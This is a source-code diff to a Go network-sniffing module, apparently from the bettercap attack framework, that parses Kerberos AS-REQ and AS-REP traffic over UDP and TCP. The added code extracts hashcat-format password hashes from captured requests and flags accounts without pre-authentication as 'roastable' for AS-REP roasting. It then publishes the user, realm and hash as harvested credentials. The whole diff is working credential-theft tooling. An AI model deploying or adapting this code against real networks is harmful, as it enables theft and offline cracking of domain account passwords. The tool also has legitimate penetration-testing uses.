@@ -1,8 +1,10 @@
 package net_sniff
 
 import (
-	"encoding/asn1"
+	"fmt"
 	"net"
+	"strings"
+	"sync"
 
 	"github.com/bettercap/bettercap/packets"
 
@@ -12,33 +14,127 @@ import (
 	"github.com/evilsocket/islazy/tui"
 )
 
-func krb5Parser(srcIP, dstIP net.IP, payload []byte, pkt gopacket.Packet, udp *layers.UDP) bool {
-	if udp.DstPort != 88 {
+const (
+	// maximum number of AS-REQ tracked while waiting for the reply
+	krb5MaxTracked = 4096
+)
+
+var (
+	krb5Lock = sync.Mutex{}
+	// client/kdc/principal -> true if the last AS-REQ was pre-authenticated
+	krb5PreAuth = make(map[string]bool)
+)
+
+func krb5Key(client net.IP, kdc net.IP, user string, realm string) string {
+	return strings.ToLower(fmt.Sprintf("%s/%s/%s@%s", client, kdc, user, realm))
+}
+
+func krb5OnRequest(srcIP, dstIP net.IP, pkt gopacket.Packet, req *packets.Krb5Request) bool {
+	user, realm := req.ReqBody.Cname.String(), req.ReqBody.Realm
+	hash, err := req.Hashcat()
+
+	krb5Lock.Lock()
+	if len(krb5PreAuth) >= krb5MaxTracked {
+		krb5PreAuth = make(map[string]bool)
+	}
+	krb5PreAuth[krb5Key(srcIP, dstIP, user, realm)] = err == nil
+	krb5Lock.Unlock()
+
+	if err != nil {
 		return false
 	}
 
-	var req packets.Krb5Request
-	_, err := asn1.UnmarshalWithParams(udp.Payload, &req, packets.Krb5AsReqParam)
+	NewSnifferEvent(
+		pkt,
+		"krb5",
+		srcIP.String(),
+		dstIP.String(),
+		SniffData{
+			"user":  user,
+			"realm": realm,
+			"hash":  hash,
+		},
+		"%s %s -> %s : %s",
+		tui.Wrap(tui.BACKRED+tui.FOREBLACK, "krb-as-req"),
+		vIP(srcIP),
+		vIP(dstIP),
+		hash,
+	).Push()
+
+	publishCredential("krb5", srcIP, dstIP.String(), packets.Krb5Port, user+"@"+realm, hash)
+
+	return true
+}
+
+// an AS-REP for an AS-REQ without pre-authentication means the account can
+// be roasted by anyone, no credentials required
+func krb5OnReply(srcIP, dstIP net.IP, pkt gopacket.Packet, rep *packets.Krb5Reply) bool {
+	user, realm := rep.Cname.String(), rep.Crealm
+	key := krb5Key(dstIP, srcIP, user, realm)
+
+	krb5Lock.Lock()
+	preAuth, found := krb5PreAuth[key]
+	delete(krb5PreAuth, key)
+	krb5Lock.Unlock()
+
+	if !found || preAuth {
+		return false
+	}
+
+	hash, err := rep.Hashcat()
 	if err != nil {
 		return false
 	}
 
-	if s, err := req.String(); err == nil {
-		NewSnifferEvent(
-			pkt.Metadata().Timestamp,
-			"krb5",
-			srcIP.String(),
-			dstIP.String(),
-			nil,
-			"%s %s -> %s : %s",
-			tui.Wrap(tui.BACKRED+tui.FOREBLACK, "krb-as-req"),
-			vIP(srcIP),
-			vIP(dstIP),
-			s,
-		).Push()
-
-		return true
+	NewSnifferEvent(
+		pkt,
+		"krb5.asrep.roastable",
+		srcIP.String(),
+		dstIP.String(),
+		SniffData{
+			"user":  user,
+			"realm": realm,
+			"hash":  hash,
+		},
+		"%s %s -> %s : %s doesn't require pre-authentication %s",
+		tui.Wrap(tui.BACKRED+tui.FOREBLACK, "krb-as-rep"),
+		vIP(srcIP),
+		vIP(dstIP),
+		tui.Bold(user+"@"+realm),
+		hash,
+	).Push()
+
+	publishCredential("krb5", dstIP, srcIP.String(), packets.Krb5Port, user+"@"+realm, hash)
+
+	return true
+}
+
+func krb5Message(srcIP, dstIP net.IP, pkt gopacket.Packet, data []byte) bool {
+	switch packets.Krb5MessageType(data) {
+	case packets.Krb5AsRequestType:
+		if req, err := packets.ParseKrb5AsRequest(data); err == nil {
+			return krb5OnRequest(srcIP, dstIP, pkt, req)
+		}
+	case packets.Krb5AsReplyType:
+		if rep, err := packets.ParseKrb5AsReply(data); err == nil {
+			return krb5OnReply(srcIP, dstIP, pkt, rep)
+		}
+	}
+	return false
+}
+
+func krb5Parser(srcIP, dstIP net.IP, payload []byte, pkt gopacket.Packet, udp *layers.UDP) bool {
+	if udp.DstPort != packets.Krb5Port && udp.SrcPort != packets.Krb5Port {
+		return false
 	}
+	return krb5Message(srcIP, dstIP, pkt, udp.Payload)
+}
 
+func krb5TCPParser(srcIP, dstIP net.IP, payload []byte, pkt gopacket.Packet, tcp *layers.TCP) bool {
+	if tcp.DstPort != packets.Krb5Port && tcp.SrcPort != packets.Krb5Port {
+		return false
+	} else if data, ok := packets.Krb5FromTCP(tcp.Payload); ok {
+		return krb5Message(srcIP, dstIP, pkt, data)
+	}
 	return false
 }